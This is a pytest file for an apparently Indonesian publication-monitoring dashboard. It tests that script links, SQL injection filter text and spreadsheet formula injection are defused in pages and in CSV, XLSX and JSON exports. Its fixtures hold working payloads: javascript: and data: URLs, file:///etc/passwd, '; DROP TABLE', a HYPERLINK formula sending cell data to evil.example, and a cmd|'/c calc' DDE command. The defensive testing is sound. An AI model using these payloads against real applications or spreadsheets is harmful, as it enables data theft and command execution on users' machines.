"""Hostile text at the doors readers and spreadsheets open: links that are scripts, titles that
are formulas, filter text that is SQL. Pages are rendered from dashboard.py with AppTest
against a seeded store holding such posts; exports are produced by the `pantau` command."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, time, timedelta

import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from pantau.cli import main
from pantau.formulas import neutralise, write_xlsx
from pantau.ingest import save_posts
from pantau.links import safe_link
from pantau.models import Post
from pantau.store import Store
from tests.seed import ZONE, seeded_store
from tests.test_pages import DASHBOARD
from views.common import md_link
from views.ekspor import xlsx_bytes

UNIT, SOURCE = "opd-dinkes", "web-opd-dinkes"

SCRIPT_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    " \t javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "&amp;#106;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "http:alert(1)",
    "https:///nohost",
    "file:///etc/passwd",
    "http://[::1",
]


@pytest.mark.parametrize("url", SCRIPT_LINKS)
def test_no_script_or_data_link_is_ever_safe(url):
    assert safe_link(url) is None
    assert "](" not in md_link("judul", url)


@pytest.mark.parametrize("url, expected", [
    ("https://dinkes.blorakab.go.id/2025/09/rapat/", "https://dinkes.blorakab.go.id/2025/09/rapat/"),
    ("HTTP://Example.org/a b", "HTTP://Example.org/a%20b"),
    ("https://a.example/x(y)", "https://a.example/x%28y%29"),
    ("https://a.example/?q=<script>", "https://a.example/?q=%3Cscript%3E"),
    ("  https://a.example/\n", "https://a.example/"),
    ("https://a.example/berita/pembangunan-jalan-ñ", "https://a.example/berita/pembangunan-jalan-%C3%B1"),
])
def test_http_links_pass_percent_encoded(url, expected):
    assert safe_link(url) == expected


# -- the pages --------------------------------------------------------------------------------

HOSTILE_POSTS = [(f"Tautan berbahaya {i}", url) for i, url in enumerate(SCRIPT_LINKS[:12])]
SQL_TITLES = ["Diskon 100% untuk UMKM", "kode_rahasia dibagikan", "Jalan Ki Hajar\\Dewantara", "Biasa saja"]


@pytest.fixture(scope="module")
def seeded(tmp_path_factory):
    seeded = seeded_store(tmp_path_factory.mktemp("hostile"))
    store = Store(seeded.url)
    moment = datetime.combine(seeded.today - timedelta(days=1), time(12), tzinfo=ZONE)
    posts = [Post(SOURCE, f"hostile-{i}", url, title, moment - timedelta(minutes=i))
             for i, (title, url) in enumerate(HOSTILE_POSTS)]
    posts += [Post(SOURCE, f"sql-{i}", f"https://{UNIT}.example.invalid/sql-{i}", title, moment - timedelta(hours=2))
              for i, title in enumerate(SQL_TITLES)]
    posts += [Post(SOURCE, "formula-1", "https://x.example/f1", '=HYPERLINK("http://evil.example/?"&A1,"klik")',
                   moment - timedelta(hours=3)),
              Post(SOURCE, "formula-2", "https://x.example/f2", "@SUM(1+1)*cmd|'/c calc'!A0", moment - timedelta(hours=3)),
              Post(SOURCE, "formula-3", "https://x.example/f3", "-2+3", moment - timedelta(hours=3)),
              Post(SOURCE, "formula-4", "https://x.example/f4", "\t=1+1", moment - timedelta(hours=3)),
              Post(SOURCE, "formula-5", "https://x.example/f5", "-12", moment - timedelta(hours=3))]
    save_posts(store, UNIT, "website", posts)
    store.dispose()
    return seeded


@pytest.fixture
def env(seeded, monkeypatch):
    monkeypatch.setenv("PANTAU_DB", seeded.url)
    monkeypatch.setenv("PANTAU_REGISTRY", str(seeded.registry_dir))
    monkeypatch.setenv("PANTAU_TODAY", seeded.today.isoformat())
    monkeypatch.setenv("PANTAU_MODE", "public")
    monkeypatch.delenv("PANTAU_SIMULATED", raising=False)
    return monkeypatch


def page(path: str) -> AppTest:
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    at.run()
    at.switch_page(path).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


LINK_TARGET = re.compile(r"\]\(([^)]*)\)")


def link_targets(at: AppTest) -> list[str]:
    return [target for m in at.markdown for target in LINK_TARGET.findall(m.value)]


def test_publikasi_terbaru_never_links_a_script(env):
    at = page("views/terbaru.py")
    at.text_input(key="terbaru-teks").input("Tautan berbahaya").run()
    assert not at.exception
    lines = [m.value for m in at.markdown if "Tautan berbahaya" in m.value]
    assert len(lines) == len(HOSTILE_POSTS)
    assert all(not line.startswith("[") for line in lines)  # the title is text, not a link label
    assert link_targets(at) == []


def test_unit_page_never_links_a_script(env):
    at = page("views/unit.py")
    at.selectbox(key="unit-pilih").select(UNIT).run()
    assert not at.exception
    latest = [m.value for m in at.markdown if "Tautan berbahaya" in m.value]
    assert latest, "the hostile posts are the unit's newest"
    targets = link_targets(at)
    assert all(t.startswith(("http://", "https://")) for t in targets), targets


@pytest.mark.parametrize("text, expected", [
    ("' OR '1'='1", 0),
    ("'; DROP TABLE posts; --", 0),
    ("%", 1),          # only the title with a literal percent sign
    ("_", 1),          # only the title with a literal underscore
    ("\\", 1),         # only the title with a backslash
    ("100%", 1),
    ("\" OR 1=1 --", 0),
])
def test_hostile_filter_text_reaches_sql_only_as_a_bound_value(env, seeded, text, expected):
    before = Store(seeded.url)
    count = before.post_count()
    before.dispose()
    at = page("views/terbaru.py")
    at.text_input(key="terbaru-teks").input(text).run()
    assert not at.exception
    assert [c.value for c in at.caption if "cocok" in c.value] == [
        f"{expected} publikasi cocok dengan filter; terbaru di atas."]
    after = Store(seeded.url)
    assert after.post_count() == count  # the table is still there, whole
    after.dispose()


def test_hostile_unit_query_parameter_falls_back_to_a_known_unit(env, seeded):
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    at.query_params["unit"] = "' OR 1=1 --"
    at.run()
    at.switch_page("views/unit.py").run()
    assert not at.exception
    assert at.selectbox(key="unit-pilih").value in {u.unit_id for u in seeded.registry.units}


# -- exports ----------------------------------------------------------------------------------


def export_posts(capsys, seeded, fmt: str, out=None) -> bytes:
    day = (seeded.today - timedelta(days=1)).isoformat()
    args = ["export", "posts", "--db", seeded.url, "--registry", str(seeded.registry_dir), "--from", day, "--to", day,
            "--format", fmt]
    code = main([*args, "--out", str(out)] if out else args)
    assert code == 0
    return out.read_bytes() if out else capsys.readouterr().out.encode("utf-8")


def test_csv_export_neutralises_formulas_and_drops_script_links(seeded, capsys, tmp_path):
    payload = export_posts(capsys, seeded, "csv", tmp_path / "posts.csv")
    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(payload.decode("utf-8-sig")))}
    assert rows["formula-1"]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"klik")'
    assert rows["formula-2"]["title"] == "'@SUM(1+1)*cmd|'/c calc'!A0"
    assert rows["formula-3"]["title"] == "'-2+3"
    assert rows["formula-4"]["title"] == "'\t=1+1"
    assert rows["formula-5"]["title"] == "-12"  # a number is not a formula
    for i in range(len(HOSTILE_POSTS)):
        assert rows[f"hostile-{i}"]["url"] == ""
    assert rows["formula-1"]["url"] == "https://x.example/f1"
    # No cell of the file starts a formula, whichever column it is in.
    for row in rows.values():
        assert not any(str(v).startswith(("=", "+", "@", "\t", "\r")) for v in row.values()), row
    # Text is quoted, so a ';' inside a title stays in its cell in Indonesian Excel; numbers are bare.
    line = next(li for li in payload.decode("utf-8-sig").splitlines() if "formula-3" in li)
    assert '"\'-2+3"' in line


def test_xlsx_export_has_no_formula_cell(seeded, capsys, tmp_path):
    path = tmp_path / "posts.xlsx"
    export_posts(capsys, seeded, "xlsx", path)
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    titles = {row[header.index("external_id")].value: row[header.index("title")] for row in sheet.iter_rows(min_row=2)}
    assert titles["formula-1"].value == '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    assert titles["formula-1"].data_type == "s" and titles["formula-1"].quotePrefix
    urls = {row[header.index("external_id")].value: row[header.index("url")].value for row in sheet.iter_rows(min_row=2)}
    assert all(urls[f"hostile-{i}"] in (None, "") for i in range(len(HOSTILE_POSTS)))


def test_json_export_carries_no_script_link(seeded, capsys):
    records = json.loads(export_posts(capsys, seeded, "json"))
    by_id = {r["external_id"]: r for r in records}
    assert all(by_id[f"hostile-{i}"]["url"] == "" for i in range(len(HOSTILE_POSTS)))
    # JSON is for programs: the text itself is unchanged.
    assert by_id["formula-1"]["title"] == '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_ekspor_page_workbook_keeps_numbers_and_neutralises_text():
    frame = pd.DataFrame({"unit_name": ["=cmd|' /C calc'!A0", "Dinas -1", "+62 812"], "posts": [3, -1, 0],
                          "pace": [0.5, -0.25, float("nan")]})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame))).active
    assert [c.data_type for c in sheet["A"][1:]] == ["s", "s", "s"]
    assert [c.value for c in sheet["A"][1:]] == ["=cmd|' /C calc'!A0", "Dinas -1", "+62 812"]
    assert [c.value for c in sheet["B"][1:]] == [3, -1, 0]
    assert [c.value for c in sheet["C"][1:3]] == [0.5, -0.25]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-5", "-5"), ("+62", "+62"), ("-0,5", "-0,5"), ("-3.25", "-3.25"), ("Rapat", "Rapat"), ("", ""),
    (-5, -5), (0.5, 0.5), (None, None),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_write_xlsx_into_a_buffer_never_writes_a_formula():
    buffer = io.BytesIO()
    write_xlsx(pd.DataFrame({"a": ["=SUM(A1:A3)", "aman"]}), buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [("=SUM(A1:A3)", "s"), ("aman", "s")]
